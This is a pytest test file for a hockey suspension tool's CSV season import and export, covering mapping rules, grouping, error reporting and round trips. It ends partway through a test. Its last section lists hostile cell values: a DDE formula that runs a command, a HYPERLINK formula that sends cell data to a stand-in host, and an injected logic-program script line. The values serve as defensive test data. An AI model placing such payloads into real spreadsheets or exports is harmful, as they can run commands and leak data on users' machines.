"""A season as a folder of CSV files (hockeyrules/read/csv/reader.py and exporter.py, docs/csv-import.md).

The example folder gives the suspensions of the hand-written season; every
mapping rule; every error with its file and line; the round trip; hostile cells.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import pytest

from hockeyrules import evaluate
from hockeyrules.model.errors import InputError
from hockeyrules.model.vocabulary import RULED_INFRACTIONS
from hockeyrules.read.csv.exporter import write_folder
from hockeyrules.read.csv.mapping import RULE_CODES, Mapping, MappingError
from hockeyrules.read.csv.reader import import_folder, load_any, load_folder, read_folder
from hockeyrules.read.loader import read
from hockeyrules.read.season import from_data

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "examples" / "csv-season"
WORDS = EXAMPLE / "league-words.yaml"  # the example league's own words, people and teams
CONTRACT = ROOT / "tests" / "contract"


# ---------------------------------------------------------------- helpers
SETTINGS = "key,value\nclock,remaining\n"
TEAMS = "id,name\nA,Alpha\nB,Bravo\n"
PEOPLE = (
    "id,name,team,role\nA1,Player A1,A,player\nA2,Player A2,A,player\nCA,Coach A,A,head_coach\n"
    "B1,Player B1,B,player\nB2,Player B2,B,player\nCB,Coach B,B,head_coach\n"
)
GAMES = "id,date,home,away,kind\nG1,2025-10-01,A,B,regular\nG2,2025-10-08,A,B,regular\n"
HEADER = "game,person,period,time,infraction,penalty,minutes\n"


def folder(tmp_path: Path, incidents: str = HEADER, name: str = "season", **files) -> Path:
    """A season folder: the small league above, with the given incidents.csv and other files."""
    path = tmp_path / name
    path.mkdir()
    content = {
        "settings.csv": SETTINGS,
        "teams.csv": TEAMS,
        "people.csv": PEOPLE,
        "games.csv": GAMES,
        "incidents.csv": incidents,
    }
    content.update({k.replace("_", ".", 1) if "_csv" in k else k: v for k, v in files.items()})
    for file, text in content.items():
        if text is None:
            continue
        data = text if isinstance(text, bytes) else text.encode("utf-8")
        (path / file).write_bytes(data)
    return path


def incidents_of(path: Path, game: int = 0, **kw) -> list:
    return read_folder(path, **kw)["games"][game]["incidents"]


def problems(path: Path, reader=import_folder, **kw) -> list[tuple]:
    with pytest.raises(InputError) as exc:
        reader(path, **kw)
    return [(p.where, p.line, p.message) for p in exc.value.problems]


def one_problem(path: Path, reader=read_folder, **kw) -> tuple:
    found = problems(path, reader, **kw)
    assert len(found) == 1, found
    return found[0]


def comparable(result: dict) -> dict:
    """A result@1 dict as the contract compares it (warnings without their lines)."""
    out = dict(result)
    out["warnings"] = sorted((w["where"], w["message"]) for w in result["warnings"])
    return out


def without_minutes(data: dict) -> dict:
    data = copy.deepcopy(data)
    for game in data["games"]:
        for incident in game.get("incidents", []):
            incident.pop("minutes", None)
    return data


# ---------------------------------------------------------------- the example folder
def test_example_folder_gives_the_suspensions_of_the_yaml_season():
    yaml_result = evaluate(EXAMPLE / "season.yaml").to_dict()
    csv_result = evaluate(load_folder(EXAMPLE, WORDS)).to_dict()
    assert yaml_result["suspensions"], "the example must suspend someone"
    assert csv_result["suspensions"] == yaml_result["suspensions"]
    # the same warnings, located in the CSV files, and the one of the title row above a header
    title = {"where": "incidents.csv", "line": 2, "message": "the header is line 2; line 1 above it skipped (a title)"}
    assert title in csv_result["warnings"]
    rest = [w for w in csv_result["warnings"] if w != title]
    assert [w["message"] for w in rest] == [w["message"] for w in yaml_result["warnings"]]
    assert [(w["where"], w["line"]) for w in rest] == [("games.csv, games[4]", 6), ("games.csv, games[6]", 8)]


def test_example_folder_is_the_yaml_season_apart_from_the_minutes_it_writes_out():
    data = read_folder(EXAMPLE, WORDS)
    by_hand = read(EXAMPLE / "season.yaml").data
    assert without_minutes(data) == without_minutes(by_hand)
    # every incident of the export gives its minutes: the sum of its lines
    boarding = data["games"][1]["incidents"][1]
    assert boarding == {
        "person": "WPG-06",
        "period": 2,
        "time": "08:12",
        "infraction": "boarding",
        "penalties": ["major", "game_misconduct"],
        "minutes": 15,
    }


def test_example_folder_has_the_quirks_of_a_real_export():
    raw = {p.name: p.read_bytes() for p in EXAMPLE.glob("*.csv")}
    assert raw["games.csv"].startswith(b"\xef\xbb\xbf") and b";" in raw["games.csv"].splitlines()[0]
    incidents = raw["incidents.csv"].decode()
    for quirk in (
        ",8:12,",
        ",08:12,",
        ",3rd,",
        ",OT,",
        ",Pre,",
        ",Post,",
        ",7.2,",
        "Checking from Behind",
        ",GM,",
        ",Misc.,",
        "7.10(e) Joining a fight",
    ):
        assert quirk in incidents, quirk
    assert '"Tremblay, Jean-Luc"' in raw["people.csv"].decode()
    people = {p["id"]: p for p in read_folder(EXAMPLE, WORDS)["people"]}
    assert people["WPG-09"]["name"] == "Tremblay, Jean-Luc"
    assert people["BRA-21"]["affiliate"] is True


def test_load_any_reads_a_folder_or_a_file():
    assert (
        evaluate(load_any(EXAMPLE, WORDS)).to_dict()["suspensions"]
        == evaluate(load_any(EXAMPLE / "season.yaml")).to_dict()["suspensions"]
    )


# ---------------------------------------------------------------- round trip
@pytest.mark.slow
@pytest.mark.parametrize("name", ["mu18aaa-2025-26.yaml", "six-teams-elapsed.json", "worked-example.yaml"])
def test_round_trip_gives_the_same_season_and_result(tmp_path, name):
    original = read(CONTRACT / name).data
    written = write_folder(original, tmp_path / "out")
    assert sorted(p.name for p in written) == sorted(
        ["settings.csv", "teams.csv", "people.csv", "games.csv", "dressed.csv", "incidents.csv", "decisions.csv"]
    )
    back = read_folder(tmp_path / "out")
    assert back == original
    assert comparable(evaluate(back).to_dict()) == comparable(evaluate(original).to_dict())


def test_round_trip_matches_the_contract_result(tmp_path):
    original = read(CONTRACT / "six-teams-elapsed.json").data
    write_folder(original, tmp_path / "out", delimiter=";", bom=True)
    assert (tmp_path / "out" / "teams.csv").read_bytes().startswith(b"\xef\xbb\xbfid;name")
    got = evaluate(load_folder(tmp_path / "out")).to_dict()
    expected = json.loads((CONTRACT / "six-teams-elapsed.expected.json").read_text())
    assert got["suspensions"] == expected["suspensions"]


@pytest.mark.slow
def test_round_trip_of_a_season_object_with_minutes_dressed_and_decisions(tmp_path):
    season = load_any(ROOT / "examples" / "mu18aaa-example.yaml")
    write_folder(season, tmp_path / "out")
    back = load_folder(tmp_path / "out")
    assert evaluate(back).to_dict()["suspensions"] == evaluate(season).to_dict()["suspensions"]
    assert [d.games for d in back.decisions] == [d.games for d in season.decisions]
    assert back.games[0].dressed == season.games[0].dressed


def test_minutes_are_spread_over_the_lines_and_come_back(tmp_path):
    data = read(CONTRACT / "worked-example.yaml").data
    data["games"][1]["incidents"][0]["minutes"] = 17  # [major, game_misconduct]: 5 + 12
    data["games"][0]["incidents"][0]["minutes"] = 0  # [major]: 0
    data["settings"]["pim"] = {"major": 6}
    write_folder(data, tmp_path / "out")
    lines = (tmp_path / "out" / "incidents.csv").read_text().splitlines()
    assert lines[1:] == [
        "G1,1,A1,,1,15:00,charging,major,0,",
        "G2,1,A1,,3,06:30,boarding,major,6,",
        "G2,1,A1,,3,06:30,boarding,game_misconduct,11,",
    ]
    assert read_folder(tmp_path / "out") == data


def test_an_export_leaves_no_file_of_an_earlier_one(tmp_path):
    write_folder(read(EXAMPLE / "season.yaml").data, tmp_path / "out")
    data = read(CONTRACT / "worked-example.yaml").data
    write_folder(data, tmp_path / "out")
    assert read_folder(tmp_path / "out") == data  # no dressed lists, no decisions left over


def test_two_lines_alike_stay_two_incidents_by_their_incident_number(tmp_path):
    data = read(CONTRACT / "worked-example.yaml").data
    twice = {"person": "A1", "period": 1, "time": "10:00", "infraction": "roughing", "penalties": ["minor"]}
    data["games"][0]["incidents"] += [dict(twice), dict(twice)]
    write_folder(data, tmp_path / "out")
    assert read_folder(tmp_path / "out") == data


# ---------------------------------------------------------------- mapping rules
@pytest.mark.parametrize(
    "text, code",
    [
        ("boarding", "boarding"),
        ("Checking from Behind", "checking_from_behind"),
        ("CHECKING_FROM_BEHIND", "checking_from_behind"),
        ("Cross-Checking", "cross_checking"),
        ("CFB", "checking_from_behind"),
        ("7.2", "boarding"),
        ("11.2", "abusive_behaviour"),
        ("Rule 7.5", "checking_from_behind"),
        ("7.10", "fighting"),
        ("7.10(b)", "fighting"),  # a clause of 7.10 falls back on 7.10
        ("7.2(a)", "boarding"),
        ("10.4(f)", "returning_after_ejection"),
        ("7.10(e) Joining a fight", "joining_fight"),
        ("7.10(e) - Secondary fight", "secondary_fight"),
        ("7.10e third man in", "joining_fight"),
        ("7.11(a) Instigator", "instigator"),
        ("Aggressor (7.11(a))", "aggressor"),
        ("10.4(e) first off the bench", "first_off_bench"),
        ("Leaving the bench", "left_bench"),
        ("Boarding (7.2)", "boarding"),
        ("Tripping 8.10", "tripping"),  # an ordinary infraction: read by its words
        ("Game Misconduct", "game_misconduct"),
        ("Too Many Men", "too_many_players"),
        ("Abuse of Officials", "abusive_behaviour"),
    ],
)
def test_infraction_words_and_rule_numbers(text, code):
    assert Mapping().infraction(text) == code


def test_every_rule_number_of_the_vocabulary_is_in_the_table():
    for code, rule in RULED_INFRACTIONS.items():
        assert code in RULE_CODES[rule]
        mapping = Mapping()
        if len(RULE_CODES[rule]) == 1:
            assert mapping.infraction(rule) == code
        assert mapping.infraction(f"{rule} {code}") == code
        assert mapping.infraction(code.replace("_", " ").title()) == code


@pytest.mark.parametrize(
    "text, words",
    [
        ("7.10(e)", "ambiguous: it is joining_fight or secondary_fight"),
        ("7.11(a)", "ambiguous: it is instigator or aggressor"),
        ("10.4(e)", "ambiguous: it is first_off_bench or left_bench"),
        ("10.4", "ambiguous"),
        ("7.11", "ambiguous"),
        ("7.2 Roughing", "rule 7.2 is boarding, but the words name roughing (rule 7.9)"),
        ("7.10(e) Fighting", "rule 7.10(e) is joining_fight or secondary_fight, but the words name fighting"),
        ("99.9", "rule 99.9 is not in the table"),
        (
            "10.4(a)",
            "rule 10.4(a) is not in the table (rules of 10.4: 10.4(e) first_off_bench or left_bench; "
            "10.4(f) returning_after_ejection)",
        ),
        ("Chekcing from behnd", "closest: checking_from_behind"),
        ("", "empty"),
    ],
)
def test_infraction_errors(text, words):
    with pytest.raises(MappingError) as exc:
        Mapping().infraction(text)
    assert words in str(exc.value)


@pytest.mark.parametrize(
    "text, types",
    [
        ("Minor", ["minor"]),
        ("Double Minor", ["double_minor"]),
        ("Major", ["major"]),
        ("Misc.", ["misconduct"]),
        ("Misconduct", ["misconduct"]),
        ("Game Misconduct", ["game_misconduct"]),
        ("GM", ["game_misconduct"]),
        ("Gross Misconduct", ["gross_misconduct"]),
        ("Match", ["match"]),
        ("game_misconduct", ["game_misconduct"]),
        ("5 min Major", ["major"]),
        ("Minor (2)", ["minor"]),
        ("Minor + Misconduct", ["minor", "misconduct"]),
        ("Major; GM", ["major", "game_misconduct"]),
    ],
)
def test_penalty_words(text, types):
    assert Mapping().penalties(text) == types


def test_penalty_errors():
    with pytest.raises(MappingError, match="cannot map 'Majr' to a penalty type; closest: major"):
        Mapping().penalties("Majr")
    with pytest.raises(MappingError, match="cannot map 'Foo' to a penalty type"):
        Mapping().penalties("Minor + Foo")


@pytest.mark.parametrize(
    "text, periods, value",
    [
        ("1st", 3, 1),
        ("2nd", 3, 2),
        ("3rd", 3, 3),
        ("1", 3, 1),
        ("3", 3, 3),
        ("4th", 3, 4),
        ("Period 2", 3, 2),
        ("OT", 3, "OT"),
        ("OT1", 3, "OT"),
        ("Overtime", 3, "OT"),
        ("OT2", 3, 5),
        ("2OT", 3, 5),
        ("OT3", 3, 6),
        ("OT2", 2, 4),
        ("Pre", 3, "pre"),
        ("pre-game", 3, "pre"),
        ("Post", 3, "post"),
        ("post-game", 3, "post"),
    ],
)
def test_periods(text, periods, value):
    assert Mapping().period(text, periods) == value


def test_shootout_is_an_error_unless_the_league_maps_it():
    with pytest.raises(MappingError, match="shootout: the season format has no shootout period"):
        Mapping().period("SO")
    assert Mapping({"periods": {"SO": "post"}}).period("SO") == "post"


@pytest.mark.parametrize(
    "table, text, value",
    [
        ("roles", "Head Coach", "head_coach"),
        ("roles", "HC", "head_coach"),
        ("roles", "Asst. Coach", "assistant_coach"),
        ("roles", "Goalie", "player"),
        ("roles", "trainer", "trainer"),
        ("kinds", "Regular Season", "regular"),
        ("kinds", "Playoffs", "playoff"),
        ("kinds", "Preseason", "exhibition"),
        ("clocks", "Countdown", "remaining"),
        ("clocks", "Elapsed", "elapsed"),
    ],
)
def test_roles_kinds_and_clocks(table, text, value):
    assert Mapping().choice(table, text, "x") == value


def test_cells_of_an_incident_are_read(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,3rd,8:12,Boarding,Major,5\nG1,B1,OT,0:08:12,Slashing,Minor,2\nG1,A2,Post,,Roughing,Misc.,10\n",
    )
    assert incidents_of(path) == [
        {"person": "A1", "period": 3, "time": "08:12", "infraction": "boarding", "penalties": ["major"], "minutes": 5},
        {
            "person": "B1",
            "period": "OT",
            "time": "08:12",
            "infraction": "slashing",
            "penalties": ["minor"],
            "minutes": 2,
        },
        {"person": "A2", "period": "post", "infraction": "roughing", "penalties": ["misconduct"], "minutes": 10},
    ]


def test_a_rule_column_is_read_with_the_words(tmp_path):
    path = folder(
        tmp_path,
        "game,person,period,time,rule,infraction,penalty\n"
        "G1,A1,2,05:00,7.10(e),Joining a fight,Game Misconduct\n"
        "G1,A2,2,05:00,7.2,,Major\n",
    )
    assert [i["infraction"] for i in incidents_of(path)] == ["joining_fight", "boarding"]


def test_people_games_and_settings_cells_are_read(tmp_path):
    path = folder(
        tmp_path,
        settings_csv="key,value\nclock,Countdown\nleague,MU18AAA\nPeriod Minutes,15\npim.major,6\n"
        "pim.game_misconduct,12\nroster_limit,\n",
        people_csv="Person ID,Name,Team,Role,Affiliate,Registered Team\nA1,x,A,Player,Yes,Virden U18 A\n"
        "CA,y,A,HC,no,\nB1,,B,F,,\n",
        games_csv="Game ID;Date;Start Time;Home;Visitor;Type\nG1;2025-9-1;7:30;A;B;Regular Season\n"
        "G2;2025/10/08;;A;B;Playoffs\n",
    )
    data = read_folder(path)
    assert data["league"] == "MU18AAA"
    assert data["settings"] == {"clock": "remaining", "period_minutes": 15, "pim": {"major": 6, "game_misconduct": 12}}
    assert data["people"] == [
        {"id": "A1", "name": "x", "team": "A", "role": "player", "affiliate": True, "registered_team": "Virden U18 A"},
        {"id": "CA", "name": "y", "team": "A", "role": "head_coach", "affiliate": False},
        {"id": "B1", "team": "B", "role": "player"},
    ]
    assert [(g["date"], g.get("start"), g["kind"]) for g in data["games"]] == [
        ("2025-09-01", "07:30", "regular"),
        ("2025-10-08", None, "playoff"),
    ]


def test_settings_may_come_from_the_caller(tmp_path):
    path = folder(tmp_path, settings_csv=None)
    assert read_folder(path, settings={"clock": "elapsed"})["settings"] == {"clock": "elapsed"}
    path = folder(tmp_path, name="two")
    assert read_folder(path, settings={"clock": "elapsed"})["settings"]["clock"] == "elapsed"


# ---------------------------------------------------------------- grouping
def test_lines_of_one_person_time_and_infraction_are_one_incident(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,3rd,8:12,Boarding,Major,5\n"
        "G1,B1,1,10:00,Tripping,Minor,2\n"
        "G1,A1,3,08:12,7.2,Game Misconduct,10\n",
    )
    assert incidents_of(path) == [
        {
            "person": "A1",
            "period": 3,
            "time": "08:12",
            "infraction": "boarding",
            "penalties": ["major", "game_misconduct"],
            "minutes": 15,
        },
        {"person": "B1", "period": 1, "time": "10:00", "infraction": "tripping", "penalties": ["minor"], "minutes": 2},
    ]


def test_other_infraction_person_period_or_game_is_another_incident(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,3,08:12,Boarding,Major,\n"
        "G1,A1,3,08:12,Roughing,Minor,\n"
        "G1,A2,3,08:12,Boarding,Major,\n"
        "G1,A1,2,08:12,Boarding,Major,\n"
        "G2,A1,3,08:12,Boarding,Major,\n",
    )
    data = read_folder(path)
    assert len(data["games"][0]["incidents"]) == 4
    assert len(data["games"][1]["incidents"]) == 1


def test_minutes_are_left_out_unless_every_line_gives_them(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,3,08:12,Boarding,Major,5\nG1,A1,3,08:12,Boarding,GM,\n")
    assert "minutes" not in incidents_of(path)[0]


def test_a_repeated_penalty_type_is_an_error_naming_both_lines(tmp_path):
    path = folder(
        tmp_path, HEADER + "G1,A1,3,08:12,Boarding,Major,5\nG1,B1,1,01:00,Tripping,Minor,\nG1,A1,3rd,8:12,7.2,Major,5\n"
    )
    assert one_problem(path) == (
        "incidents.csv",
        4,
        "column penalty: major repeated in one incident (also on line 2): one person, one time, one infraction",
    )


def test_different_stoppages_of_one_incident_are_an_error(tmp_path):
    path = folder(
        tmp_path,
        HEADER.replace("minutes", "stoppage") + "G1,A1,3,08:12,Boarding,Major,S1\nG1,A1,3,08:12,Boarding,GM,S2\n",
    )
    assert one_problem(path) == (
        "incidents.csv",
        3,
        "column stoppage: 'S2' differs from 'S1' on line 2, a line of the same incident",
    )


def test_the_incident_label_groups_and_must_agree(tmp_path):
    text = (
        "game,incident,person,period,time,infraction,penalty\n"
        "G1,1,A1,1,10:00,Roughing,Minor\nG1,2,A1,1,10:00,Roughing,Minor\nG1,2,A1,1,10:00,Roughing,Misc.\n"
    )
    path = folder(tmp_path, text)
    assert [i["penalties"] for i in incidents_of(path)] == [["minor"], ["minor", "misconduct"]]
    path = folder(tmp_path, text + "G1,1,A2,1,10:01,Roughing,Major\n", name="bad")
    assert problems(path, read_folder) == [
        ("incidents.csv", 5, "column person: 'A2' differs from 'A1' on line 2, a line of the same incident '1'"),
        ("incidents.csv", 5, "column time: '10:01' differs from '10:00' on line 2, a line of the same incident '1'"),
    ]


# ---------------------------------------------------------------- errors with file and line
def test_each_unmappable_line_is_reported_with_file_line_and_column(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,1,10:00,Tripping,Minor,2\n"  # line 2: fine
        "G1,A1,SO,,Tripping,Minor,2\n"  # 3
        "G9,A1,1,10:00,Tripping,Minor,2\n"  # 4
        "G1,A2,1,10:00,7.10(e),Minor,2\n"  # 5
        "G1,B1,1,10:00,Trpping,Minor,2\n"  # 6
        "G1,B2,1,10:00,Tripping,Minr,2\n"  # 7
        "G1,CA,1,10:00,Tripping,Minor,two\n"  # 8
        "G1,CB,x,10:00,Tripping,Minor,2\n",  # 9
        people_csv=PEOPLE + "B3,Player B3,B,coach\n",
    )  # people line 8
    found = problems(path, read_folder)
    assert [(w, line, m.split(":")[0]) for w, line, m in found] == [
        ("people.csv", 8, "column role"),
        ("incidents.csv", 3, "column period"),
        ("incidents.csv", 4, "column game"),
        ("incidents.csv", 5, "column infraction"),
        ("incidents.csv", 6, "column infraction"),
        ("incidents.csv", 7, "column penalty"),
        ("incidents.csv", 8, "column minutes"),
        ("incidents.csv", 9, "column period"),
    ]
    assert "unknown game 'G9' (not in games.csv)" in found[2][2]
    assert "closest: clipping, tripping" in found[4][2]


def test_season_problems_name_the_csv_file_and_line(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,1,10:00,Tripping,Minor,2\n"
        "G1,ZZ,1,10:00,Tripping,Minor,2\n"  # line 3
        "G2,A1,2,25:00,Tripping,Minor,2\n"  # line 4
        "G2,A1,2,05:00,Tripping,Minor,-2\n",  # line 5
        games_csv=GAMES + "G3,2025-13-01,A,A,regular\n",  # games line 4
        teams_csv=TEAMS + "A,Again\n",
    )  # teams line 4
    assert problems(path) == [
        ("teams.csv, teams[2].id", 4, "duplicate team id 'A' (first at teams[0])"),
        ("games.csv, games[2].away", 4, "home and away are the same team 'A'"),
        ("games.csv, games[2].date", 4, "not a date: '2025-13-01'"),
        ("incidents.csv", 3, "column person: unknown person 'ZZ' (not an id of people.csv, nor a name)"),
        ("incidents.csv, games[1].incidents[0].time", 4, "25:00 lies outside a 20-minute period"),
        ("incidents.csv, games[1].incidents[1].minutes", 5, "negative minutes: -2"),
    ]


def test_line_and_season_problems_are_reported_together(tmp_path):
    path = folder(tmp_path, HEADER + "G1,ZZ,1,10:00,Tripping,Minor,2\nG1,A1,SO,,Tripping,Minor,2\n")
    path2 = folder(
        tmp_path,
        HEADER + "G1,A1,1,10:00,Tripping,Minor,2\nG1,A1,SO,,Tripping,Minor,2\n",
        name="s2",
        games_csv=GAMES + "G3,2025-13-01,A,B,regular\n",
    )
    assert [(where, line) for where, line, _ in problems(path)] == [("incidents.csv", 2), ("incidents.csv", 3)]
    assert [(where, line) for where, line, _ in problems(path2)] == [
        ("games.csv, games[2].date", 4),
        ("incidents.csv", 3),
    ]


def test_the_line_of_a_record_is_where_it_starts(tmp_path):
    people = 'id,name,team,role\nA1,"two\nlines",A,player\nB1,"three\n\nlines",B,player\nB2,x,B,nobody\n'
    path = folder(tmp_path, people_csv=people)
    assert one_problem(path) == (
        "people.csv",
        7,
        "column role: unknown role 'nobody'; one of player, head_coach, assistant_coach, trainer, manager",
    )


def test_a_missing_clock_is_an_error(tmp_path):
    path = folder(tmp_path, settings_csv="key,value\nleague,X\n")
    assert one_problem(path) == (
        "settings.csv",
        None,
        "no clock: add the row clock,remaining (times as the "
        "scoreboard shows them) or clock,elapsed (time played in "
        "the period)",
    )
    path = folder(tmp_path, settings_csv=None, name="none")
    assert one_problem(path) == (
        "settings.csv",
        None,
        "missing file (it gives at least the clock: a row clock,remaining or clock,elapsed)",
    )


def test_settings_errors(tmp_path):
    path = folder(
        tmp_path, settings_csv="key,value\nclock,sideways\nperiod_minutes,twenty\ncolour,red\nclock,elapsed\n"
    )
    assert problems(path, read_folder) == [
        ("settings.csv", 2, "column value: unknown clock 'sideways'; one of remaining, elapsed"),
        ("settings.csv", 3, "column value: period_minutes must be a whole number, not 'twenty'"),
        (
            "settings.csv",
            4,
            "column key: unknown setting 'colour'; known: format, league, season, clock, "
            "period_minutes, regulation_periods, roster_limit, max_affiliate_games, pim.minor, "
            "pim.double_minor, pim.major, pim.misconduct, pim.game_misconduct, pim.gross_misconduct, "
            "pim.match, pim.game_ejection",
        ),
        ("settings.csv", 5, "column key: 'clock' given twice (also on line 2)"),
    ]


def test_folder_shape_errors(tmp_path):
    path = folder(tmp_path, "game,person,when,infraction,penalty,Remarks\n", teams_csv=None, incident_csv="x\n")
    assert problems(path, read_folder) == [
        (
            "incident.csv",
            None,
            "unknown file: a season folder holds settings.csv, teams.csv, people.csv, "
            "games.csv, dressed.csv, incidents.csv, decisions.csv, issued.csv (incidents may be split over "
            "several incidents*.csv files; rename it, or move it out of the folder)",
        ),
        ("teams.csv", None, "missing file (one row per record)"),
        (
            "incidents.csv",
            1,
            "unknown column 'when'; the columns of incidents.csv are game, incident, person, "
            "number, team, period, time, infraction, rule, penalty, minutes, stoppage, bench (other names, "
            "or columns to ignore, go in a mapping file)",
        ),
        (
            "incidents.csv",
            1,
            "unknown column 'Remarks'; the columns of incidents.csv are game, incident, person, "
            "number, team, period, time, infraction, rule, penalty, minutes, stoppage, bench (other names, "
            "or columns to ignore, go in a mapping file)",
        ),
        ("incidents.csv", 1, "missing column 'period'"),
        ("incidents.csv", 1, "missing column 'time'"),
    ]


def test_encoding_and_csv_errors(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,1,10:00,Tripping,Minor,2\n",
        people_csv="id,name,team,role\nA1,Fran\xe7ois,A,player\n".encode("latin-1"),
    )
    assert one_problem(path) == (
        "people.csv",
        2,
        "not UTF-8 text (byte 25): give the file's encoding, for example "
        "--encoding cp1252 (a spreadsheet's plain 'CSV' on Windows), or "
        "save it as 'CSV UTF-8'",
    )
    path = folder(tmp_path, HEADER + 'G1,A1,1,10:00,"Tripping,Minor,2\n', name="quote")
    assert one_problem(path) == (
        "incidents.csv",
        2,
        "not readable as CSV: unexpected end of data (a quote opened in this record is never closed)",
    )
    path = folder(tmp_path, HEADER + "G1,A1,1,10:00,Tripping,Minor,2,extra\n", name="cells")
    assert one_problem(path) == (
        "incidents.csv",
        2,
        "a cell ('extra') in column 8, which has no header (the header line names 7 columns)",
    )


def test_a_team_column_must_agree_with_people(tmp_path):
    path = folder(tmp_path, "game,person,team,period,time,infraction,penalty\nG1,A1,B,1,10:00,Tripping,Minor\n")
    assert one_problem(path) == ("incidents.csv", 2, "column team: 'A1' plays for 'A' (people.csv), not 'B'")


def test_dressed_and_decisions(tmp_path):
    path = folder(
        tmp_path,
        HEADER + "G1,A1,1,10:00,Tripping,Minor,2\n",
        dressed_csv="game,team,person\nG1,A,A1\nG1,,B1\nG1,A,A2\nG9,A,A1\nG2,B,\n",
        decisions_csv="person,game,rule,set_games,add_games,date,reason\n"
        'A1,G1,,2,,2025-10-02,"a reason, with a comma"\n',
    )
    assert problems(path, read_folder) == [("dressed.csv", 5, "column game: unknown game 'G9' (not in games.csv)")]
    (path / "dressed.csv").write_text("game,team,person\nG1,A,A1\nG1,,B1\nG1,A,A2\nG2,B,\n")
    data = read_folder(path)
    assert data["games"][0]["dressed"] == {"A": ["A1", "A2"], "B": ["B1"]}
    assert data["games"][1]["dressed"] == {"B": []}
    assert data["decisions"] == [
        {"person": "A1", "game": "G1", "set_games": 2, "date": "2025-10-02", "reason": "a reason, with a comma"}
    ]


# ---------------------------------------------------------------- the league's mapping file
def test_a_league_mapping_file_adds_words_columns_and_ignored_columns(tmp_path):
    mapping = tmp_path / "league-mapping.yaml"
    mapping.write_text(
        'infractions:\n  "Check to the Head": head_contact\n  "7.10(e)-J": joining_fight\n'
        "penalties:\n  GMSC: game_misconduct\nperiods:\n  SO: post\n"
        "columns:\n  incidents.csv:\n    Offence Description: infraction\n"
        "ignore_columns:\n  incidents.csv: [Jersey]\n"
    )
    path = folder(
        tmp_path,
        "game,person,period,time,Offence Description,penalty,Jersey\n"
        "G1,A1,1,10:00,Check to the Head,Major,17\nG1,A1,1,10:00,Check to the Head,GMSC,17\n"
        "G1,B1,SO,,7.10(e)-J,GMSC,4\n",
    )
    assert incidents_of(path, mapping=mapping) == [
        {
            "person": "A1",
            "period": 1,
            "time": "10:00",
            "infraction": "head_contact",
            "penalties": ["major", "game_misconduct"],
        },
        {"person": "B1", "period": "post", "infraction": "joining_fight", "penalties": ["game_misconduct"]},
    ]
    assert problems(path, read_folder)[0][2].startswith("unknown column 'Offence Description'")


def test_rule_numbers_in_a_yaml_mapping_file_stay_text_and_a_dict_needs_text_keys(tmp_path):
    mapping = tmp_path / "m.yaml"
    mapping.write_text("infractions:\n  7.10: secondary_fight\n")  # the text 7.10, not the number 7.1
    assert Mapping.load(mapping).infraction("7.10") == "secondary_fight"
    assert Mapping.load(mapping).infraction("7.1") == "attempt_to_injure"
    with pytest.raises(InputError) as exc:
        Mapping.load({"infractions": {7.1: "fighting"}})
    assert [(p.where, p.message) for p in exc.value.problems] == [
        ("infractions.7.1", "write the text 7.1 in quotes: YAML reads 7.10 as the number 7.1")
    ]


def test_a_league_mapping_file_as_csv_in_the_folder_itself(tmp_path):
    path = folder(tmp_path, HEADER + "G1,A1,Shootout,,Check to the Head,Major,5\n")
    (path / "mapping.csv").write_text(
        "table;text;code\ninfractions;Check to the Head;head_contact\nperiods;Shootout;post\n"
    )
    incident = incidents_of(path, mapping=path / "mapping.csv")[0]
    assert (incident["infraction"], incident["period"]) == ("head_contact", "post")


def test_a_bad_mapping_file_is_an_error_with_its_lines(tmp_path):
    mapping = tmp_path / "m.yaml"
    mapping.write_text(
        "infractions:\n  7.10: fighting\n  Spear: spearin\nperiods:\n  SO: 0\nextras: {}\n"
        "columns:\n  incidents.csv: {Offence: nothing}\n"
    )
    path = folder(tmp_path)
    assert problems(path, read_folder, mapping=mapping) == [
        ("infractions.Spear", 3, "unknown code 'spearin'; did you mean spearing or spitting or slashing?"),
        ("periods.SO", 5, "a period is a number from 1 to 99, OT, pre or post; not 0"),
        (
            "extras",
            6,
            "unknown table; one of infractions, penalties, periods, roles, kinds, clocks, statuses, people, "
            "teams, columns, ignore_columns, extends, settings, join_seconds, date_format, where, "
            "numbers_in_id_columns, seasons, membership",
        ),
        (
            "columns.incidents.csv.Offence",
            8,
            "unknown column 'nothing' of incidents.csv; one of game, incident, "
            "person, number, team, period, time, infraction, rule, penalty, minutes, "
            "stoppage, bench",
        ),
    ]


# ---------------------------------------------------------------- encoding and dialect
def test_bom_semicolons_crlf_and_quoted_cells(tmp_path):
    people = (
        '\ufeffid;name;team;role\r\nA1;"O\'Neil; Alex ""The Wall""";A;player\r\n'
        'A2;"Smith, John\r\nJr.";A;player\r\nCA;Coach;A;head_coach\r\n'
        "B1;B1;B;player\r\nB2;B2;B;player\r\nCB;Coach;B;head_coach\r\n"
    )
    path = folder(
        tmp_path,
        "\ufeffgame\tperson\tperiod\ttime\tinfraction\tpenalty\nG1\tA1\t1\t10:00\tTripping\tMinor\n",
        people_csv=people.encode("utf-8"),
    )
    data = read_folder(path)
    assert [p["name"] for p in data["people"][:2]] == ['O\'Neil; Alex "The Wall"', "Smith, John\r\nJr."]
    assert data["games"][0]["incidents"][0]["person"] == "A1"


def test_blank_rows_and_blank_trailing_columns_are_skipped(tmp_path):
    path = folder(tmp_path, HEADER.rstrip("\n") + ",,\n\nG1,A1,1,10:00,Tripping,Minor,2,,\n,,,,,,,,\n")
    assert len(incidents_of(path)) == 1


# ---------------------------------------------------------------- hostile cells
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    'He said "hi",\nthen; left',
    'x"). suspended(Y) :- person(Y). #script (python)',
]


def test_hostile_cells_survive_as_text(tmp_path):
    data = read(CONTRACT / "worked-example.yaml").data
    data["league"] = HOSTILE[1]
    data["teams"][0]["name"] = HOSTILE[4]
    for person, text in zip(data["people"], HOSTILE):
        person["name"] = text
    data["people"][1]["registered_team"] = HOSTILE[0]
